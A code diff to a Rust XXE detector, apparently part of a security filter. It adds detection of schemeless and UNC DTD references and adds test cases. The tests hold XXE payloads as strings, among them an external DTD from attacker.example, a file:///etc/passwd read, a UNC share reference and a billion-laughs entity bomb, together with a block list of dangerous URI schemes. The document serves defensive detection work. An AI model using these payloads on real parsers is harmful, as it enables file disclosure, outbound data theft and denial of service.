@@ -57,11 +57,19 @@ impl Xxe {
                 let local = ["file:", "jar:", "php:", "expect:", "netdoc:", "gopher:"]
                     .iter()
                     .any(|s| lower.starts_with(s));
+                // A network-path reference (`//attacker/x.dtd`) takes the document's own
+                // scheme; a UNC path (`\\attacker\share\x.dtd`) is SMB on Windows.
+                let schemeless = lower.starts_with("//") || lower.starts_with("\\\\");
                 let remote = lower.starts_with("http://")
                     || lower.starts_with("https://")
-                    || lower.starts_with("ftp://");
-                let host = lower.split("://").nth(1).unwrap_or("");
-                let host = host.split(['/', ':']).next().unwrap_or("");
+                    || lower.starts_with("ftp://")
+                    || schemeless;
+                let host = if schemeless {
+                    &lower[2..]
+                } else {
+                    lower.split("://").nth(1).unwrap_or("")
+                };
+                let host = host.split(['/', ':', '\\']).next().unwrap_or("");
                 let standard = [
                     "w3.org/",
                     "java.sun.com/",
@@ -130,6 +138,9 @@ mod tests {
             // An external DTD fetched from anywhere (session 15, held-out XXE set).
             "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\"><x>1</x>",
             "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>",
+            // A network-path or UNC reference to the DTD (GoTestWAF xml-injection, session 24).
+            "<!DOCTYPE x SYSTEM \"//x/x\"><x>a</x>",
+            "<!DOCTYPE x SYSTEM \"\\\\attacker\\share\\x.dtd\"><x>a</x>",
             // Entities built of entities: billion laughs (session 21).
             "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol1;</lolz>",
         ] {
@@ -146,6 +157,9 @@ mod tests {
             "<!DOCTYPE web-app SYSTEM \"http://java.sun.com/dtd/web-app_2_3.dtd\"><web-app/>",
             "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" \"https://mybatis.org/dtd/mybatis-3-mapper.dtd\"><mapper/>",
             "the include directive is documented",
+            // A relative DTD file next to the document (session 24).
+            "<!DOCTYPE note SYSTEM \"Note.dtd\"><note/>",
+            "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html/>",
             // An internal entity of plain text or character references (session 21).
             "<!ENTITY nbsp \"&#160;\"> is declared in the DTD",
             "<!DOCTYPE doc [<!ENTITY product \"Palisade\">]><doc>&product;</doc>",
